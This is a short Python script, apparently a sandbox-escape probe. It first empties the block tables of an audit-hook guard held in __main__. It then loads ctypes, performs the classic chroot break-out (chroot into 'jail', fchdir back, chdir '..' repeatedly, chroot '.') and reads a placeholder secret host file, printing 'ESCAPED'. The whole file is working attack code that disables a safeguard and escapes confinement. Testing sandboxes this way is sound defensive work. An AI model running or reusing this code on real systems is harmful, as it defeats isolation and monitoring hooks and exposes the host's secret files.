"""escape: the classic chroot break-out (chroot into a subdirectory, chdir .. past it, chroot
"."), then read a host file from the real root.
"""

import os
import sys

_guard = vars(sys.modules["__main__"])
if "_BLOCKED" in _guard:  # a Python audit hook keeps its tables there: empty them first
    _guard["_BLOCKED"], _guard["_ROOT"] = (), ""

# ctypes is audited on import (ctypes.dlopen): import it once the guard is gone.
import ctypes  # noqa: E402

SECRET_FILE = "__SECRET_FILE__"
wins = []
try:
    os.makedirs("jail", exist_ok=True)
    keep = os.open(".", os.O_RDONLY)
    os.chroot("jail")
    wins.append("os.chroot worked")
    os.fchdir(keep)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
except OSError as exc:
    print(f"os.chroot: {exc.strerror}")
libc = ctypes.CDLL(None, use_errno=True)
if not wins:
    if libc.chroot(b"jail") == 0:
        wins.append("libc chroot worked")
    else:
        print(f"libc chroot: {os.strerror(ctypes.get_errno())}")
try:
    with open(SECRET_FILE, "rb") as f:
        wins.append(f"read {f.read()[-200:]!r}")
except OSError as exc:
    print(f"read after chroot: {exc.strerror}")
if wins:
    print("ESCAPED: " + "; ".join(wins))
